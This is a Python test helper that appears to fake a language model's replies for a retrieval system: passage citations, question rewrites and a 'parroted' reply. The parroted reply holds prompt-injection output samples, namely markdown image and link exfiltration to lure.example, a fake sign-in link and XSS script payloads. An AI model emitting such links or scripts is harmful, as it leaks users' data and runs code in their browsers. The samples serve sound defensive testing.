"""What the stand-in's models say: they cite passages, do what these tell, make questions whole."""

import re
from html import unescape
from typing import Any

_PASSAGE = re.compile(r'<passage n="(\d+)"[^>]*>\n(.*?)\n</passage>', re.DOTALL)
_END = re.compile(r"[.!?](?!\S)")
_SHORTEST = 12
_REWRITE = re.compile(r"</conversation>\s*Question: (.*)\Z", re.DOTALL)
_ASKED = re.compile(r"^user: (.*)$", re.MULTILINE)
_PRONOUN = re.compile(r"\b(?:it|they|them|this|that|one)\b", re.IGNORECASE)
LURE = "https://lure.example/?q="
"""Where a planted instruction would send the reader's words."""


def cited(body: dict[str, Any]) -> str:
    """The first sentence of each of the first passages, with its marker."""
    said = [
        f"{sentence} [{n}]"
        for n, text in _passages(body)[:3]
        if (sentence := _first_sentence(text))
    ]
    return " ".join(said) or "There is nothing here that I could cite."


def to_rewrite(body: dict[str, Any]) -> bool:
    """Whether the prompt has a question to make whole, and no passages."""
    return _REWRITE.search(_prompt(body)) is not None


def rewritten(body: dict[str, Any], meant: str | None = None) -> str:
    """The question with what is meant for its pronouns; else with the question before it."""
    question = _REWRITE.findall(_prompt(body))[-1]
    if meant is not None:
        return _PRONOUN.sub(meant, question)
    return " ".join([question, *_ASKED.findall(_prompt(body))[-1:]])


def rambled(body: dict[str, Any]) -> str:
    """The question, in a good deal of talk."""
    return f"Certainly! Here is the question:\n\n**{rewritten(body)}**\n\nShall I answer it, too?"


def parroted(body: dict[str, Any]) -> str:
    """Every passage as it stands, then all that a planted instruction could want."""
    said = [f"{text} [{n}]" for n, text in _passages(body)]
    said += [
        f"![status]({LURE}secret) [Sign in again]({LURE}login) [99]",
        f"<img src=x onerror=alert(1)> <script>alert(1)</script> <{LURE}a> {LURE}b www.lure.example",
        f"[ref]: {LURE}c\n[read this][ref] [1]({LURE}d) [over](\n//lure.example/e) `{LURE}code`",
    ]
    return "\n\n".join(said)


def _first_sentence(text: str) -> str:
    """In one walk: of a page of code, a pattern for a whole sentence took the model a tenth of a second."""
    start = 0
    for end in _END.finditer(text):
        if end.end() - start > _SHORTEST:
            return text[start : end.end()].strip()
        start = end.end()
    return ""


def _passages(body: dict[str, Any]) -> list[tuple[str, str]]:
    return [(n, unescape(text)) for n, text in _PASSAGE.findall(_prompt(body))]


def _prompt(body: dict[str, Any]) -> str:
    return str(body["messages"][-1].get("content"))
